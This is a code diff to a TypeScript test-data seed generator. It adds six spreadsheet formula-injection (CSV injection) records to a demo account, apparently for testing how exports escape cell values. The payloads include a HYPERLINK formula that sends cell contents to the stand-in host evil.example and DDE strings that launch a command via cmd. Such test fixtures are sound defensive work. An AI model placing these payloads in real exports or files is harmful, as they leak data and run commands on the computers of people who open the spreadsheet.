@@ -7,7 +7,7 @@ import type { Random } from './random';
  * appear too, because the upstream's sets are open.
  */
 
-export const SEED_VERSION = 4;
+export const SEED_VERSION = 5;
 const NEWEST = Date.parse('2026-11-20T16:45:12.345Z');
 
 const FIRST_NAMES = [
@@ -230,6 +230,22 @@ export type SeedCollection = ReturnType<typeof makeCollection>;
 export type SeedProvider = ReturnType<typeof makeProvider>;
 
 /**
+ * Records a spreadsheet would run as formulas if an export let them through (OWASP CSV injection):
+ * a reference and names starting with each of `=`, `+`, `-`, `@`, tab and carriage return. They sit
+ * among the demo account's recent listed collections.
+ */
+export const FORMULA_INJECTIONS = [
+  { reference: '=HYPERLINK("https://evil.example/?leak="&A1,"Pay now")', firstName: '=1+2', lastName: 'Okafor' },
+  { reference: '+SUM(1,1)', firstName: 'Ada', lastName: '+44 Mensah' },
+  { reference: "-2+3+cmd|' /C calc'!A0", firstName: '-Mira', lastName: 'Smith' },
+  { reference: "@SUM(1+1)*cmd|' /C calc'!A0", firstName: 'Kwame', lastName: '@home' },
+  { reference: '\t=1+1', firstName: '\tTab', lastName: 'Eze' },
+  { reference: '\r=1+1', firstName: 'Grace', lastName: '\rReturn' },
+] as const;
+const INJECTIONS_FROM = 30;
+export const isFormulaInjection = (reference: string) => FORMULA_INJECTIONS.some((i) => i.reference === reference);
+
+/**
  * Every account's records, newest first. Non-integrated collections are spread
  * through the account's history so they hide between listed ones.
  */
@@ -238,7 +254,14 @@ export function* generate(r: Random, account: SeedAccount) {
   const every = Math.max(1, Math.floor(account.collections / (account.nonIntegrated + 1)));
   for (let seq = 0; seq < account.collections; seq++) {
     const integrated = !(seq > 0 && seq % every === 0 && seq / every <= account.nonIntegrated);
-    yield { kind: 'collection' as const, record: makeCollection(r, account.collections - seq, t, integrated) };
+    const record = makeCollection(r, account.collections - seq, t, integrated);
+    const injection = account.id === 'acc_demo' && integrated ? FORMULA_INJECTIONS[seq - INJECTIONS_FROM] : undefined;
+    if (injection) {
+      record.reference = injection.reference;
+      record.contact.firstName = injection.firstName;
+      record.contact.lastName = injection.lastName;
+    }
+    yield { kind: 'collection' as const, record };
     t -= r.int(1, 240) * 60_000 + r.int(0, 59_999);
   }
   for (let i = 0; i < account.providers; i++) {
